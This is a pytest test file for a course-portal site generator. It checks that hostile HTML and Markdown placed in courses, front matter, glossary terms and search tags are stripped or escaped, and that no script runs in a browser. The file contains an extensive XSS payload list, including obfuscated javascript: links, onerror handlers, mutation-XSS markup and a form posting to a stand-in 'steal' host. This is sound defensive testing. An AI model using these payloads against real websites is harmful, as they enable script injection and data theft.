"""Hostile HTML and Markdown in course bodies and YAML fields: removed at build time, never run in a browser.

One hostile content repository is built once (without --strict, so that the harmless output can be
inspected; the strict build refuses it) and read by every test; Chromium loads each page type from a
plain server and from nginx with the shipped Content-Security-Policy, recording every request.
"""

from __future__ import annotations

import json
import re
import shutil

import pytest

from conftest import REPO, make_repo, serve
from generator.html_audit import audit_html
from generator.publish.search_check import audit_search_data
from generator.publish.site_check import audit_site
from nginx_server import Nginx

COURSE = "curriculum/courses/basic/etiquette.md"
PWN = "window.__pwned=1"
ATTACKS = f"""
<script>{PWN}</script>
<script src="../../../assets/evil.js"></script>
<img src="x" onerror="{PWN}">
<img src="https://tracker.example/pixel.png" alt="pixel">
<img src="&#x68;ttps://tracker.example/entity.png">
<svg><image href="https://tracker.example/svg.png"/><script>{PWN}</script></svg>
<object data="https://tracker.example/object"></object>
<embed src="https://tracker.example/embed">
<iframe src="../../../"></iframe>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<div style="background:url('https://tracker.example/style.png')">风格</div>
<video><source src="https://tracker.example/v.mp4"></video>
<link rel="stylesheet" href="https://tracker.example/x.css">
<style>@import url(https://tracker.example/i.css);</style>
<base href="https://tracker.example/">
<meta http-equiv="refresh" content="0;url=javascript:{PWN}">
<form action="https://tracker.example/steal"><input name="q"><button>提交</button></form>
<a href="&#106;avascript:{PWN}">entity link</a>
<a href="java&#x09;script:{PWN}">tab link</a>
<a href="data:text/html,<script>{PWN}</script>">data link</a>
<a href="/\\tracker.example/">backslash</a>
<img name="currentScript" src="a.png">
<div id="mermaid">clobber</div>
<math><mtext><table><mglyph><style><img src=x onerror="{PWN}"></style></mglyph></table></mtext></math>
<p>正文仍然可读。</p>
"""
KEPT = """
!!! warning "注意"
    告警框保留。

<details><summary>展开</summary>折叠内容</details>

| 列一 | 列二 |
| --- | --- |
| 表格 | 保留 |

[站内链接](../products/) · [外部链接](https://example.com/)

```mermaid
flowchart LR
  A --> B
```
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    repo = make_repo(tmp_path_factory.mktemp("hostile") / "content").without_paper()  # paper: test_hostile_paper
    text = repo.read(COURSE)
    repo.write(COURSE, text + ATTACKS + KEPT)
    repo.replace(COURSE, "summary: 接听电话的基本礼仪", "summary: '[点我](&#106;avascript:window.__pwned=1) <img src=x onerror=alert(1)>'")
    repo.replace(COURSE, "  - knowledge: 说出标准开场白", "  - knowledge: '[x](java&#x0A;script:alert(1)) ![p](https://tracker.example/o.png)'")
    repo.write("curriculum/about.md", '---\ntitle: "<img src=x onerror=window.__pwned=1>关于"\n---\n关于本门户。\n')
    # Words that feed the search data: Material's results insert tags with innerHTML.
    repo.replace("curriculum/glossary.yml", "aliases: [FCR, 首次解决率]",
                 "aliases: [FCR, 首次解决率, '<img src=x onerror=window.__pwned=1>解决率']")
    repo.replace("curriculum/glossary.yml", "term: 平均处理时长", "term: '平均处理时长<svg onload=window.__pwned=1>'")
    repo.replace(COURSE, "tags: [沟通, SOP]", "tags: [沟通, SOP, '<b onmouseover=window.__pwned=1>礼貌</b>', 'A&B']")
    repo.replace(COURSE, "## 开场白", "## 开场白：首次解决率与平均处理时长<svg onload=window.__pwned=1>")
    strict = repo.build()
    result = repo.run("build")
    repo.strict_result, repo.result = strict, result
    return repo


def test_strict_build_refuses_the_page_naming_the_file(hostile):
    assert hostile.strict_result.returncode == 1
    assert f"{COURSE}: 已从页面中删除：该页面执行了脚本" in hostile.strict_result.stderr
    assert "从其他网站加载资源：<img src=\"https://tracker.example/pixel.png\">" in hostile.strict_result.stderr
    assert "[B901]" in hostile.strict_result.stderr


def test_lenient_build_is_harmless_and_keeps_what_trainers_write(hostile):
    assert hostile.result.returncode == 0, hostile.result.stderr
    html = hostile.html("courses/basic/etiquette/")
    article = html.split('<article class="md-content__inner md-typeset">', 1)[1].split("</article>", 1)[0]
    assert audit_html(article).findings == [] and "tracker.example/pixel" not in article
    assert not re.search(r"<[^>]*\b(onerror|href=\"(javascript|data):)", article, re.I)
    assert not re.search(r"<(script|iframe|object|embed|svg|form|base|meta|link|style|math)\b", article.split('class="training-quiz"')[0])
    assert 'name="currentScript"' not in article and 'id="mermaid"' not in article
    assert "正文仍然可读。" in article and 'class="admonition warning"' in article and "<details>" in article
    assert "<table>" in article and 'href="../products/"' in article and 'href="https://example.com/"' in article
    assert '<pre class="mermaid">' in article
    # The whole site passes the same audit `publish` runs (the manifest is absent: not a strict build).
    assert audit_site(hostile.site) == []
    assert not (hostile.site / "training-build.json").exists()


def test_titles_from_front_matter_are_text(hostile):
    page = hostile.html("about/")
    assert "&lt;img src=x onerror=window.__pwned=1&gt;关于" in page
    assert [f for f in audit_html(page).findings] == []


def test_search_data_holds_words_not_markup(hostile):
    docs = json.loads((hostile.site / "search/search_index.json").read_text(encoding="utf-8"))["docs"]
    tags = next(doc["tags"] for doc in docs if doc["location"] == "courses/basic/etiquette/")
    assert "&lt;b onmouseover=window.__pwned=1&gt;礼貌&lt;/b&gt;" in tags and "A&amp;B" in tags
    assert "&lt;img src=x onerror=window.__pwned=1&gt;解决率" in tags
    assert "平均处理时长&lt;svg onload=window.__pwned=1&gt;" in tags
    assert audit_search_data(hostile.site) == []


@pytest.mark.browser
def test_searching_a_hostile_word_shows_it_as_text(browser, servers):
    """Served without the portal's CSP (a plain static server), the result list shows the words as written."""
    page = browser.new_page()
    try:
        page.goto(servers["plain"] + "courses/basic/etiquette/")
        box = page.locator("input.md-search__input")
        box.click()
        box.fill("礼貌")
        page.keyboard.press("Space")
        page.keyboard.press("Backspace")
        page.wait_for_selector("li.md-search-result__item a", timeout=15000)
        page.wait_for_timeout(300)
        result = page.locator("li.md-search-result__item").first
        assert result.locator("img, svg:not(.md-search-result__icon svg), b").count() == 0
        shown = result.text_content()  # every chip, those past the three shown as well
        assert "<b onmouseover=window.__pwned=1>" in shown and "<img src=x onerror=window.__pwned=1>解决率" in shown
        assert "A&B" in shown
        result.hover()
        assert page.evaluate("() => window.__pwned === undefined")
    finally:
        page.close()


@pytest.fixture(scope="module")
def servers(hostile, tmp_path_factory):
    plain, plain_url = serve(hostile.site)
    webroot = tmp_path_factory.mktemp("webroot")
    (webroot / "current").symlink_to(hostile.site)
    nginx = Nginx(webroot, tmp_path_factory.mktemp("nginx")).start()
    yield {"plain": plain_url, "nginx": nginx.url}
    plain.shutdown()
    nginx.stop()


PAGES = ["", "courses/basic/etiquette/", "about/", "paths/new-hire/", "quizzes/etiquette-check/", "catalog/",
         "glossary/", "guide/", "competencies/"]


@pytest.mark.browser
@pytest.mark.parametrize("server", ["plain", "nginx"])
def test_no_injected_script_runs_and_nothing_is_fetched_from_elsewhere(browser, servers, server):
    base = servers[server]
    context = browser.new_context()
    page = context.new_page()
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        for path in PAGES:
            page.goto(base + path, wait_until="load")
            page.wait_for_timeout(300)
            assert page.evaluate("() => window.__pwned === undefined && window.parent.__pwned === undefined"), path
            assert page.evaluate("() => typeof document.currentScript !== 'object' || document.currentScript === null"), path
        # Clicking the disarmed links runs nothing either.
        page.goto(base + "courses/basic/etiquette/")
        for text in ("entity link", "tab link", "data link"):
            page.get_by_text(text).click()
            page.wait_for_timeout(200)
            assert page.evaluate("() => window.__pwned === undefined"), text
            page.goto(base + "courses/basic/etiquette/")
    finally:
        context.close()
    assert dialogs == []
    outside = [url for url in requests if not url.startswith(base)]
    assert outside == [], outside


def test_a_large_site_is_audited_alike_by_several_processes(tmp_path):
    site = tmp_path / "site"
    for index in range(240):
        page = site / f"p{index:03d}" / "index.html"
        page.parent.mkdir(parents=True)
        bad = index % 40 == 7
        page.write_text("<!doctype html><title>x</title>\n<p>课程</p>\n" +
                        ('<img src="https://cdn.example.com/a.png">\n<script src="/evil.js"></script>\n' if bad else ""),
                        encoding="utf-8")
    (site / "style.css").write_text("body { background: url(https://cdn.example.com/b.png); }", encoding="utf-8")
    serial = audit_site(site)
    assert len(serial) == 6 * 2 + 1 and serial[0].startswith("p007/index.html:3:")
    assert audit_site(site, workers=2) == serial


def test_markup_in_search_data_is_found_wherever_it_is(tmp_path):
    """A search index with unescaped markup (as Material would write it from raw page tags) fails the audit the
    build and `publish` run: tags, titles, texts, addresses and the prebuilt postings."""
    site = tmp_path / "site"
    (site / "search").mkdir(parents=True)
    docs = [
        {"location": "a/", "title": "标题", "text": "<p>正文 <code>x</code></p>", "tags": ["好", "<img src=x onerror=f()>"]},
        {"location": "b/", "title": "<svg/onload=f()>", "text": "<p class=x>带属性</p><!-- c -->"},
        {"location": "javascript:f()", "title": "地址", "text": ""},
        {"location": "//tracker.example/", "title": "外站", "text": "", "tags": "<i>x</i>"},
    ]
    (site / "search/search_index.json").write_text(json.dumps({"config": {}, "docs": docs}), encoding="utf-8")
    (site / "search/prebuilt_index.json").write_text(json.dumps({"terms": ["好", "<script>x"]}), encoding="utf-8")
    problems = audit_search_data(site)
    assert [p.split("：", 1)[-1] for p in problems if "B915" in p or "标记" in p] == [
        "<img src=x onerror=f()>（标题、标签和术语的文字必须转义）",
        "<svg/onload=f()>（标题、标签和术语的文字必须转义）",
        "<p class=x>（标题、标签和术语的文字必须转义）",
        "<!-- c -->（标题、标签和术语的文字必须转义）",
        "<i>（标题、标签和术语的文字必须转义）",
        "<script>（标题、标签和术语的文字必须转义）",
    ]
    assert sum("会运行脚本或离开门户" in p for p in problems) == 2
    assert audit_site(site) == problems  # the audit the build and `publish` run
    (site / "search/search_index.json").write_text("{not json", encoding="utf-8")
    assert audit_search_data(site)[0] == "search/search_index.json: 搜索数据不是可读的 JSON；请重新构建站点"


@pytest.mark.parametrize("beside", [True, False])
def test_pages_audited_as_written_are_not_read_again_unless_changed(tmp_path, beside):
    """The build audits each page as it writes it (in a process beside the rendering, or in-process for a preview);
    the end-of-build audit skips a page whose bytes are those audited, audits it again if it changed, and a preview
    (only_known) audits nothing it did not write."""
    from generator.publish.audit_stream import AuditAsWritten

    site = tmp_path / "site"
    pages = {"a/index.html": '<p>一</p><img src="https://cdn.example.com/a.png">',
             "b/index.html": '<p>二</p><script src="/evil.js"></script>',
             "c/index.html": "<p>三</p>"}
    audit = AuditAsWritten(beside=beside)
    try:
        for page, html in pages.items():
            (site / page).parent.mkdir(parents=True)
            (site / page).write_text(html, encoding="utf-8")
            if page != "b/index.html":
                audit.add(page, html)
        known = audit.results()
    finally:
        audit.close()
    assert sorted(known) == ["a/index.html", "c/index.html"]
    assert audit_site(site, known=known) == audit_site(site)  # same findings, fewer pages parsed
    assert [p.split(":")[0] for p in audit_site(site, known=known, only_known=True)] == ["a/index.html"]
    (site / "c/index.html").write_text('<iframe src="https://x.example/"></iframe>', encoding="utf-8")  # changed after
    assert any(p.startswith("c/index.html") for p in audit_site(site, known=known, only_known=True))


def test_copied_files_audited_beside_are_not_read_again_unless_changed(tmp_path, monkeypatch):
    """Stylesheets and drawings are audited from the bytes the engine copies (not valid UTF-8 either), so the
    end-of-build audit finds the same and parses none of them again; a file changed after is audited again. A
    preview, auditing in-process, leaves them to the end-of-build audit."""
    from generator.publish import site_check
    from generator.publish.audit_stream import AuditAsWritten

    site = tmp_path / "site"
    site.mkdir()
    copied = {"s.css": b"body { background: url(https://cdn.example.com/b.png); }",
              "d.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://cdn.example.com/c.png"/></svg>',
              "latin1.css": "p { content: 'caf\u00e9' }".encode("latin-1")}
    for path, raw in copied.items():
        (site / path).write_bytes(raw)
    audit = AuditAsWritten(beside=True)
    try:
        audit.add_copied(list(copied.items()))
        known = audit.results()
    finally:
        audit.close()
    assert sorted(known) == sorted(copied)
    expected = audit_site(site)
    assert [problem.split(":")[0] for problem in expected] == ["d.svg", "s.css"]
    with monkeypatch.context() as patched:
        patched.setattr(site_check, "audit_text", lambda *args, **kwargs: pytest.fail("parsed again"))
        assert audit_site(site, known=known) == expected
    (site / "s.css").write_text("p { color: red }", encoding="utf-8")
    assert [problem.split(":")[0] for problem in audit_site(site, known=known)] == ["d.svg"]

    in_process = AuditAsWritten(beside=False)
    in_process.add_copied(list(copied.items()))
    assert in_process.results() == {}


def test_only_copied_files_the_audit_reads_go_beside_and_an_unreadable_one_is_left_to_the_end(tmp_path):
    """What the engine copies and the audit reads (stylesheets, drawings) goes to the audit process with its bytes;
    pages, scripts and a file gone since the engine listed it do not (the end-of-build audit reads what was written,
    and the engine reports what it could not copy)."""
    from mkdocs.structure.files import File, Files

    from generator.mkdocs_plugin.engine_files import copied_for_audit
    from generator.publish.site_check import MOUNT_FREE_SUFFIXES

    docs = tmp_path / "docs"
    docs.mkdir()
    for name, content in {"a.css": b"p{}", "b.SVG": b"<svg/>", "c.js": b"x()", "d.md": b"# d", "gone.css": b""}.items():
        (docs / name).write_bytes(content)
    files = Files([File(name, str(docs), str(tmp_path / "site"), True)
                   for name in ("a.css", "b.SVG", "c.js", "d.md", "gone.css")])
    (docs / "gone.css").unlink()
    assert copied_for_audit(files, MOUNT_FREE_SUFFIXES) == [("a.css", b"p{}"), ("b.SVG", b"<svg/>")]


def test_every_built_page_reads_alike_fast_and_with_html_parser(hostile):
    """The audit's fast reading (libxml2) is taken for every page the build writes, hostile content included,
    and finds exactly what html.parser finds."""
    from generator.html_audit import audit_by_html_parser, audit_by_libxml2

    pages = sorted(hostile.site.rglob("*.html"))
    assert len(pages) > 10
    for path in pages:
        document = path.read_text(encoding="utf-8")
        fast, slow = audit_by_libxml2(document), audit_by_html_parser(document)
        assert fast is not None, path
        assert (fast.findings, fast.scripts) == (slow.findings, slow.scripts), path


def test_a_stylesheet_or_drawing_the_engine_copies_is_audited_beside_the_pages(content_repo):
    """Stylesheets and drawings MkDocs copies as they are (from the curriculum, from the theme) go to the audit
    process before the first page is rendered; what they would fetch from elsewhere still fails the build, naming
    each file."""
    content_repo.without_paper()
    content_repo.write("curriculum/assets/extra.css", "body { background: url(https://cdn.example.com/b.png); }\n")
    theme = content_repo.root / "theme"
    shutil.copytree(REPO / "site_overrides", theme)
    (theme / "assets" / "map.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg">'
                                              '<image href="https://cdn.example.com/c.png"/></svg>\n', encoding="utf-8")
    content_repo.replace("mkdocs.yml", f"custom_dir: {REPO / 'site_overrides'}", f"custom_dir: {theme}")
    result = content_repo.build()
    assert result.returncode == 1 and not content_repo.site.exists()
    assert "assets/extra.css: 从其他网站加载资源：url(https://cdn.example.com/b.png)" in result.stderr, result.stderr
    assert re.search(r"assets/map.svg:1: 从其他网站加载资源：<image href=\"https://cdn.example.com/c.png\"", result.stderr), \
        result.stderr
